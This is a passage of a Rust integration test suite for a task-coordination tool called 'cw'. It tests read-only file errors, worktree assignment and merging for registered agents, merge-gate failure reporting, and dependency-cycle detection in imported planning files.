            std::os::unix::fs::PermissionsExt::mode(&fs_err::metadata(path).unwrap().permissions());
        set_mode(path, mode);
        let list = as_owner(&env, &["task", "list"]);
        assert!(
            list.ok().contains("Kept"),
            "reads work with {} read-only: {list:?}",
            path.display()
        );
        as_owner(&env, &["status"]).ok();
        let add = as_owner(&env, &["task", "add", "Lost?"]);
        let error = add.error(1).to_owned();
        let named = if culprit == db.as_path() {
            format!("cannot change {}: it is read-only", db.display())
        } else {
            format!("{} is read-only", culprit.display())
        };
        assert!(error.contains(&named), "{error}");
        assert!(error.contains(&format!("chmod u+w {}", culprit.display())), "{error}");
        assert_eq!(add.stderr.lines().count(), 1, "one line, no debug dump: {}", add.stderr);
        set_mode(path, old & 0o7777);
        if path == shm.as_path() {
            fs_err::remove_file(&shm).unwrap();
        }
        let tasks = as_owner(&env, &["task", "list", "--json"]).json();
        assert_eq!(tasks.as_array().unwrap().len(), 1, "nothing was written or lost");
    }
}

// 13. An agent the user runs gets a worktree and branch, and its merge is carried out or refused
// with the reason.

#[test]
fn a_registered_agent_is_given_a_worktree_on_claim_and_its_work_is_merged() {
    let env = TestEnv::initialised();
    let task = crate::agents::add_task(&env, "By hand", "write byo.txt");
    let registered = env.cw(&["agent", "register", "--name", "mine", "--json"]).json();
    let token = registered["token"].as_str().unwrap().to_owned();
    let _server = env.start_server();
    let result = crate::mcp::python(&env, &["byo", "--token", &token]);
    let work = &result["claim"]["data"]["task"];
    let worktree = work["worktree"].as_str().expect("the claim names a worktree").to_owned();
    assert_eq!(work["branch"], "cw/by-hand-t1", "{result}");
    assert!(worktree.ends_with("repo.cw-worktrees/by-hand-t1"), "{worktree}");
    assert_eq!(result["merge"]["is_error"], false, "{result}");
    let merged = || env.cw(&["task", "show", &task, "--json"]).json()["state"] == "merged";
    crate::agents::wait_until(std::time::Duration::from_secs(30), "the task is merged", merged);
    let file = env.git(&["show", "cw/integration:byo.txt"]);
    assert_eq!(String::from_utf8_lossy(&file.stdout), "made by hand\n");
    let shown = env.cw(&["task", "show", &task]).ok().to_owned();
    assert!(shown.contains("merge:     merged as "), "{shown}");
}

#[test]
fn a_bare_agent_is_refused_a_merge_with_the_reason_and_the_task_does_not_hang() {
    let env = TestEnv::initialised();
    let task = crate::agents::add_task(&env, "No branch", "nothing");
    let registered = env.cw(&["agent", "register", "--no-worktree", "--json"]).json();
    let token = registered["token"].as_str().unwrap().to_owned();
    let result = crate::mcp::python(&env, &["byo", "--token", &token]);
    assert!(result["claim"]["data"]["task"]["worktree"].is_null(), "{result}");
    assert_eq!(result["done"]["is_error"], false, "{result}");
    let refused = &result["merge"];
    assert_eq!(refused["is_error"], true, "{result}");
    assert!(
        refused["text"].as_str().unwrap().contains("has no branch, and cw merges branches"),
        "{refused}"
    );
    let state = env.cw(&["task", "show", &task, "--json"]).json()["state"].clone();
    assert_eq!(state, "done", "not merging forever");
    assert_eq!(env.cw(&["status", "--json"]).json()["queued_merges"], 0);
}

#[test]
fn a_merge_that_fails_shows_its_reason_in_status_and_task_show() {
    let env = sim_env("");
    edit_config(&env, "merge_gate = \"\"", "merge_gate = \"echo the gate says no >&2; exit 3\"");
    edit_config(&env, "max_bounces = 5", "max_bounces = 1");
    let task = crate::agents::add_task(&env, "Gated", "write g.txt g");
    crate::coordinator::run_to_end(&env, 1);
    let shown = env.cw(&["task", "show", &task]).ok().to_owned();
    assert!(shown.contains("merge:     conflict: the merge gate"), "{shown}");
    assert!(shown.contains("the gate says no"), "{shown}");
    let status = env.cw(&["status"]).ok().to_owned();
    assert!(status.contains("— the merge gate `echo the gate says no"), "{status}");
}

// 16. A plan that depends on itself is reported; a phase cycle names ROADMAP.md's lines.

#[test]
fn a_plan_depending_on_itself_is_reported_and_a_phase_cycle_names_roadmap_lines() {
    use crate::import::{auto, plan_file, roadmap};
    let env = TestEnv::initialised();
    env.write(".planning/ROADMAP.md", &roadmap("### Phase 1: Core\n"));
    env.write(
        ".planning/phases/01-core/01-01-PLAN.md",
        &plan_file("01-core", "01", "wave: 1\ndepends_on: [\"01-01\"]", &auto("a")),
    );
    let run = env.cw(&["import", ".planning"]);
    let said = format!("{}{}", run.ok(), run.stderr);
    assert!(
        said.contains("phases/01-core/01-01-PLAN.md:6: plan 01-01 depends on itself; dropped"),
        "{said}"
    );
    let strict = env.cw(&["import", ".planning", "--strict"]).error(1).to_owned();
    assert!(strict.contains("depends on itself"), "{strict}");

    let env = TestEnv::initialised();
    let phases = "### Phase 1: Core\n**Depends on**: Phase 2\n\n### Phase 2: Edge\n**Depends on**: Phase 1\n";
    env.write(".planning/ROADMAP.md", &roadmap(phases));
    env.write(
        ".planning/phases/01-core/01-01-PLAN.md",
        &plan_file("01-core", "01", "wave: 1", &auto("a")),
    );
    env.write(
        ".planning/phases/02-edge/02-01-PLAN.md",
        &plan_file("02-edge", "01", "wave: 1", &auto("b")),
    );
    let error = env.cw(&["import", ".planning"]).error(1).to_owned();
    assert!(error.starts_with("error: dependency cycle: "), "{error}");
    assert!(error.contains("see ROADMAP.md:9, ROADMAP.md:12"), "{error}");
    assert!(!error.contains("PLAN.md"), "the plans declare nothing: {error}");
    assert_eq!(
        env.service().status(&cw::service::Caller::CLI, 0).unwrap().total,
        0,
        "nothing imported"
    );
}
